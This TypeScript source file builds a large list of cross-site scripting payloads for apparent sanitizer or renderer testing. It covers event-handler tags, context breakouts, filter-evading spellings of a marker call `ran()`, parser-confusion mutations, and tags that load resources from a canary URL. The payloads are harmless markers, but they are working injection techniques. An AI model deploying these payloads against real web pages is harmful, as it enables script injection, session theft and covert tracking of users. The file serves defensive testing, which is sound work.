import { otherPayloads } from './payloadTexts';

/*
 * Texts that would run a script, load something or leave the page if any of them were ever taken for markup, a style, an
 * address, a template or a line of a program. They are put together from tables: each of one idea, and no two alike. Each
 * calls `ran()`, or asks for something below `canary`.
 */

/** Elements that notice something by themselves, and the event they tell it with. */
const noticing: readonly (readonly [markup: string, event: string, end?: string])[] = [
  ['img src=x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'onload'],
  ['img srcset="x 1x"', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><image href=x', 'onerror'],
  ['svg><image xlink:href=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><animate attributeName=x dur=10ms', 'onend'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['svg><animateTransform attributeName=transform dur=1s', 'onbegin'],
  ['svg><animateMotion dur=1s', 'onbegin'],
  ['svg><script href=x', 'onerror', '></script></svg'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror', '></video'],
  ['video><source src=x', 'onerror', '></video'],
  ['video src=x', 'onloadstart', '></video'],
  ['audio src=x', 'onerror', '></audio'],
  ['audio><source src=x', 'onerror', '></audio'],
  ['audio src=x', 'onloadstart', '></audio'],
  ['script src="data:text/javascript,0"', 'onload', '></script'],
  ['link rel=stylesheet href=x:x', 'onerror'],
  ['link rel=stylesheet href="data:text/css,a{}"', 'onload'],
  ['link rel=preload as=script href="data:text/javascript,0"', 'onload'],
  ['style', 'onload', '></style'],
  ['style>@import "x:x";</style><style', 'onload', '>p{}</style'],
  ['iframe', 'onload', '></iframe'],
  ['iframe src=about:blank', 'onload', '></iframe'],
  ['object data=x:x', 'onerror', '></object'],
  ['embed src=x:x', 'onerror'],
  ['marquee', 'onstart', '>x</marquee'],
  ['marquee loop=1 width=0', 'onfinish', '>x</marquee'],
  ['input type=image src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['input autofocus', 'onfocusin'],
  ['textarea autofocus', 'onfocus', '></textarea'],
  ['select autofocus', 'onfocus', '></select'],
  ['button autofocus', 'onfocus', '>x</button'],
  ['a href=x autofocus', 'onfocus', '>x</a'],
  ['p tabindex=1 autofocus', 'onfocus', '>x</p'],
  ['x contenteditable autofocus', 'onfocus', '>x</x'],
  ['style>@keyframes k{}</style><p style="animation:k 1s"', 'onanimationstart', '>x</p'],
  ['style>@keyframes k{}</style><p style="animation:k 1ms"', 'onanimationend', '>x</p'],
];

/** Events that want somebody at the mouse, the keys or the clipboard. */
const touched = (
  'abort auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle blur cancel canplay ' +
  'canplaythrough change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover ' +
  'dragstart drop durationchange emptied ended focusout formdata fullscreenchange gotpointercapture hashchange input ' +
  'invalid keydown keypress keyup lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout ' +
  'mouseover mouseup mousewheel paste pause play playing pointercancel pointerdown pointerenter pointerleave ' +
  'pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll ' +
  'scrollend search seeked select selectionchange selectstart slotchange stalled submit touchend touchmove touchstart ' +
  'transitionend transitionrun unload volumechange waiting wheel'
).split(' ');

/** Ways to write the same call, so that no search for one spelling finds them all. */
const spellings: readonly string[] = [
  'window.ran()',
  'self[`ran`]()',
  'globalThis[`r`+`an`]()',
  'this.ran?.()||ran()',
  '\\u0072an()',
  'r\\u{61}n()',
  'ran``',
  '[0].map(ran)',
  'setTimeout(ran)',
  'setTimeout`ran\\x28\\x29`',
  'eval(atob(`cmFuKCk=`))',
  'Function(`ran()`)()',
  '(()=>{}).constructor(`ran()`)()',
  'eval(String.fromCharCode(114,97,110,40,41))',
  'Reflect.apply(ran,null,[])',
  'new(class{constructor(){ran()}})',
  'queueMicrotask(ran)',
  'Promise.resolve().then(ran)',
  'location=`javascript:ran()`',
  'ran/**/()/*x*/',
];

/** Where a text may stand in a page, and what ends that place. */
const breakouts: readonly string[] = [
  '">',
  "'>",
  '`>',
  '/>',
  '--><!-- -->',
  '--!>',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</xmp>',
  '</iframe>',
  '</noembed>',
  '</template>',
  '</select>',
  '</table>',
  '</svg>',
  '</math>',
  '</option></select>',
  '<!-- x -- >-->',
  '<![CDATA[x]]>',
  '<?xml version="1.0"?>',
];

const short: readonly string[] = ['<script>ran()</script>', '<img src=x onerror=ran()>', '<svg onload=ran()>'];

/** What may stand between a name and an attribute. */
const gaps: readonly string[] = [
  '/',
  '\t',
  '\n',
  '\f',
  '\r',
  '/\n/',
  ' / ',
  '\t/x\t',
  ' x=y ',
  ' x="&gt;" ',
  " y='>' ",
];

/** Loads something, though nothing runs. */
const loading = (canary: string): readonly string[] => [
  `<script src="${canary}/script.js"></script>`,
  `<script type="module">import "${canary}/module.mjs"</script>`,
  `<script type="module" src="${canary}/module-2.mjs"></script>`,
  `<svg><script href="${canary}/svg.js"></script></svg>`,
  `<svg><script xlink:href="${canary}/svg-2.js"/></svg>`,
  `<img src="${canary}/img.png">`,
  `<img srcset="${canary}/srcset.png 1x">`,
  `<img src="//${new URL(canary).host}/scheme-relative.png">`,
  `<picture><source srcset="${canary}/picture.png"><img></picture>`,
  `<input type=image src="${canary}/input.png">`,
  `<svg><image href="${canary}/image.png"/></svg>`,
  `<svg><image xlink:href="${canary}/image-2.png"/></svg>`,
  `<svg width=9 height=9><filter id=f><feImage href="${canary}/fe.png"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  `<body background="${canary}/body.png">`,
  `<table background="${canary}/table.png"><td>x</table>`,
  `<table><td background="${canary}/cell.png">x</table>`,
  `<audio src="${canary}/audio.mp3" autoplay></audio>`,
  `<video src="${canary}/video.mp4" autoplay muted></video>`,
  `<video poster="${canary}/poster.png"></video>`,
  `<video autoplay muted><source src="${canary}/source.mp4"></video>`,
  `<video src="data:," autoplay><track default src="${canary}/track.vtt"></video>`,
  `<iframe src="${canary}/frame"></iframe>`,
  `<iframe srcdoc="<img src='${canary}/srcdoc.png'>"></iframe>`,
  `<object data="${canary}/object"></object>`,
  `<embed src="${canary}/embed">`,
  `<link rel="stylesheet" href="${canary}/sheet.css">`,
  `<link rel="preload" as="script" href="${canary}/preload.js">`,
  `<link rel="modulepreload" href="${canary}/modulepreload.mjs">`,
  `<link rel="icon" href="${canary}/icon.png">`,
  `<link rel="manifest" href="${canary}/manifest.json">`,
  `<link rel="prefetch" href="${canary}/prefetch">`,
  `<link rel="prerender" href="${canary}/prerender">`,
  `<link rel="preconnect" href="${canary}">`,
  `<link rel="dns-prefetch" href="${canary}">`,
  `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
  `<meta http-equiv="refresh" content="0,${canary}/refresh-2">`,
  `<base href="${canary}/"><img src="base.png">`,
  `<style>@import url(${canary}/import.css);</style>`,
  `<style>@import "${canary}/import-2.css";</style>`,
  `<style>*{background:url(${canary}/background.png)}</style>`,
  `<style>@font-face{font-family:f;src:url(${canary}/f.woff)}*{font-family:f}</style>x`,
  `<style>li{list-style:url(${canary}/list.png)}</style><li>x`,
  `<style>p{cursor:url(${canary}/cursor.png),auto}</style><p>x`,
  `<style>p::before{content:url(${canary}/content.png)}</style><p>x`,
  `<style>p{border-image:url(${canary}/border.png) 1}</style><p>x`,
  `<style>p{-webkit-mask-image:url(${canary}/mask.png)}</style><p>x`,
  `<style>@media all{*{background:u\\72l(${canary}/escaped.png)}}</style>`,
  `<style>html:has(body){--a:url(${canary}/variable.png);background:var(--a)}</style>`,
  `<div style="background-image:url(${canary}/inline.png)">x</div>`,
  `<div style="background:image-set('${canary}/set.png' 1x)">x</div>`,
  `<svg style="background:url(${canary}/svg-style.png)"></svg>`,
  `<svg><style>*{background:url(${canary}/svg-sheet.png)}</style></svg>`,
  `<form action="${canary}/form" id=f><input name=a></form><script>f.submit()</script>`,
  `<script>fetch("${canary}/fetch")</script>`,
  `<script>navigator.sendBeacon("${canary}/beacon")</script>`,
  `<script>new EventSource("${canary}/events")</script>`,
  `<script>new WebSocket("${canary.replace('http', 'ws')}/socket")</script>`,
  `<script>new Image().src="${canary}/new-image.png"</script>`,
  `<script>location="${canary}/location"</script>`,
];

/** Parsers that disagree about what is markup: foreign content, odd nesting, halves of elements. */
const confusing: readonly string[] = [
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<svg><desc><img src=x onerror=ran()></desc></svg>',
  '<svg><title><script>ran()</script></title></svg>',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><script>ran&#40;&#41;</script></svg>',
  '<svg><script>/*<![CDATA[*/ran()/*]]>*/</script></svg>',
  '<svg><style><img src=x onerror=ran()></style></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
  '<math><mi><script>ran()</script></mi></math>',
  '<math><mglyph><img src=x onerror=ran()></math>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<style><a title="</style><img src=x onerror=ran()>">',
  '<textarea><a title="</textarea><img src=x onerror=ran()>">',
  '<title><a title="</title><img src=x onerror=ran()>">',
  '<xmp><a title="</xmp><img src=x onerror=ran()>">',
  '<iframe><a title="</iframe><img src=x onerror=ran()>">',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
  '<table><img src=x onerror=ran()></table>',
  '<select><script>ran()</script></select>',
  '<form><form><img src=x onerror=ran()></form>',
  '<p><table><p><svg onload=ran()>',
  '<a><b><a><img src=x onerror=ran()></b>',
  '<div id="x"onclick=x><img src=x onerror=ran()//>',
  '<<img src=x onerror=ran()>',
  '<img src=x onerror=ran() <',
  '<img """><script>ran()</script>">',
  "<img '''><script>ran()</script>'>",
  '<!--><img src=x onerror=ran()>-->',
  '<!--->-><img src=x onerror=ran()>',
  '<!doctype x "><img src=x onerror=ran()>',
  '<?x><img src=x onerror=ran()>',
  '</><img src=x onerror=ran()>',
  '</ x><img src=x onerror=ran()>',
  '<script>ran()</script x>',
  '<script>ran()</script/x="y">',
  '<script>ran()//</script>',
  '<script>/*</script><script>*/ran()</script><script>ran()</script>',
  '<script><!--ran()\nran()</script>',
  '<custom-element><svg onload=ran()></custom-element>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template><img src=x onerror=ran()>',
];

const quotes: readonly string[] = ['', '"', "'"];

const spelt = (call: string): readonly string[] => [
  `<script>${call}</script>`,
  `<img src=x onerror='${call}'>`,
  `<svg onload="${call}">`,
];

const spaced = (gap: string): readonly string[] => [
  `<img${gap}src=x onerror=ran()>`,
  `<svg${gap}onload=ran()>`,
  `<details${gap}open ontoggle=ran()>`,
];

const unique = (texts: readonly string[]): readonly string[] => [...new Set(texts)];

/** Markup that acts as soon as a page is made of it, with nobody touching anything. */
export const actingPayloads = (canary: string): readonly string[] =>
  unique([
    ...short,
    ...noticing.map(([markup, event, end = '']) => `<${markup} ${event}=ran()${end}>`),
    ...confusing,
    ...loading(canary),
    ...breakouts.flatMap((end) => short.map((payload) => `${end}${payload}`)),
    ...spellings.flatMap(spelt),
    ...gaps.flatMap(spaced),
    ...quotes.map((quote) => `<ImG sRc=x OnErRoR=${quote}ran()${quote}>`),
    '<SCRIPT>ran()</SCRIPT>',
    '<script\x20type="text/javascript">ran();</script>',
    '<script type=module>ran()</script>',
    '<img src="x" onerror="&#114;&#97;&#110;()">',
    '<img src="x" onerror="&#x72&#x61&#x6e&lpar;&rpar;">',
    '<img src=x onerror=ran&Tab;()>',
    '\u202e<script>ran()</script>\u202c',
    '\u2066<img src=x onerror=ran()>\u2069',
    '\ufeff<script>ran()</script>',
    '\u0000<img src=x onerror=ran()>',
    '<img\u0000 src=x><img src=x onerror\u000b=x onerror=ran()>',
    '\u2028<svg onload=ran()>\u2029',
  ]);

/** All of them: more than five hundred, the two plainest first. */
export const scriptPayloads = (canary: string): readonly string[] =>
  unique([
    ...actingPayloads(canary),
    ...touched.map((event) => `<x contenteditable tabindex=1 on${event}=ran()>x</x>`),
    ...otherPayloads(canary),
  ]);
